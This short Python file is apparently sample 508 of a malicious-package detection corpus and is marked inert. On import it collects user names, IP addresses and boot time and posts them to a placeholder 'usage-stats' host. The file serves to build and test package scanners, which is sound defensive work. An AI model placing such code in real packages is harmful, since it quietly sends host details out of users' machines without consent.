# pkgguard corpus 508 (system-information), modelled on [checkmarx-2024]; inert, never run.
import asyncio
import subprocess

import aiohttp
import psutil


async def _report():
    data = {
        "users": [u.name for u in psutil.users()],
        "addrs": subprocess.check_output(["ip", "-brief", "addr"], text=True),
        "boot": psutil.boot_time(),
    }
    async with aiohttp.ClientSession() as session:
        await session.post("https://usage-stats.example/v2/hosts", json=data)


asyncio.run(_report())
